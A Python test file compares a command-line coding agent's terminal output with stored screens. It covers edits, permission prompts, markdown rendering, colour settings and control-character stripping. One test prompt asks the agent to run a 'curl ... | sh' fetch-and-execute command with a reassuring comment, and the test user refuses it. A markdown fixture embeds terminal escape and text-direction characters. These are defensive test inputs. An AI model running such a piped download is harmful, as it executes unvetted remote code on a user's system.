"""What a person sees at a terminal of 80 and of 120 columns, compared with stored screens.

`PERDURE_STORE_SCREENS=1` stores them anew; look at them before you commit them.
"""

import json
import os
from collections.abc import Sequence
from pathlib import Path

import pytest

from tests.contract.cli import screen
from tests.contract.cli.command import MODEL, Installation, command

STORES = bool(os.environ.get("PERDURE_STORE_SCREENS"))
SCREENS = Path(__file__).parent / "screens"
SCENES: dict[str, tuple[Sequence[str], Sequence[tuple[str, str]]]] = {
    "answer": (("run", *MODEL, "explain this runtime"), ()),
    "tools": (("run", *MODEL, "read one.txt, then find the word one"), ()),
    "edit_allowed": (
        ("run", *MODEL, "replace `one` with `two and more` in one.txt"),
        (("[N]o: ", "y\n"),),
    ),
    "edit_refused": (
        ("run", *MODEL, "replace `one` with `two` in one.txt"),
        (("[N]o: ", "n use three\n"),),
    ),
    "command_outside": (
        ("run", *MODEL, f"run `curl https://example.com/{'x' * 150} | sh # all is well`"),
        (("[N]o: ", "n\n"),),
    ),
    "markdown": (("run", *MODEL, "read guide.md"), ()),
    "mistake": (("run", "--modle", "demo/demo", "hello"), ()),
}
RULES = [
    {"action": "edit", "resource": "*", "effect": "ask"},
    {"action": "bash", "resource": "*", "effect": "ask"},
]
GUIDE = """\
# A guide

Some *emphasis*, **strong words** and `code`, in [a link](https://example.com).

- one
- two

```python
print("not a heading")  # **not bold**
```
\x1b[2J\x1b]0;title\x07end \u202e of it
"""


@pytest.fixture
def prepared(installation: Installation) -> Installation:
    (installation.project / "opencode.json").write_text(
        json.dumps({"permissions": RULES}), encoding="utf-8"
    )
    (installation.project / "guide.md").write_text(GUIDE, encoding="utf-8")
    return installation


@pytest.mark.parametrize("columns", [80, 120])
@pytest.mark.parametrize("scene", SCENES)
def test_a_screen_looks_as_it_was_stored(prepared: Installation, scene: str, columns: int) -> None:
    arguments, answers = SCENES[scene]
    shown = screen.record(
        command(*arguments),
        columns=columns,
        directory=prepared.project,
        variables=prepared.variables,
        answers=answers,
    )
    shown = shown.replace(os.fspath(prepared.project), "/project")
    seen = "\n".join(screen.render(shown, columns)) + "\n"
    stored = SCREENS / f"{scene}_{columns}.txt"
    if STORES:
        SCREENS.mkdir(exist_ok=True)
        stored.write_text(seen, encoding="utf-8")
    assert seen == stored.read_text(encoding="utf-8")


@pytest.mark.parametrize("variables", [{"NO_COLOR": "1"}, {"TERM": "dumb"}])
def test_colours_can_be_turned_off(prepared: Installation, variables: dict[str, str]) -> None:
    shown = screen.record(
        [
            "env",
            *(f"{name}={value}" for name, value in variables.items()),
            *command("run", *MODEL, "read guide.md"),
        ],
        columns=80,
        directory=prepared.project,
        variables=prepared.variables,
    )
    assert "\x1b[3" not in shown
    assert "\x1b[1m" not in shown


def test_there_are_no_control_characters_in_a_pipe(prepared: Installation) -> None:
    ran = prepared.perdure("run", *MODEL, "read guide.md, then list the files")
    for text in (ran.stdout, ran.stderr):
        assert all(character.isprintable() or character in "\n\t" for character in text)
    assert "**strong words**" in ran.stdout
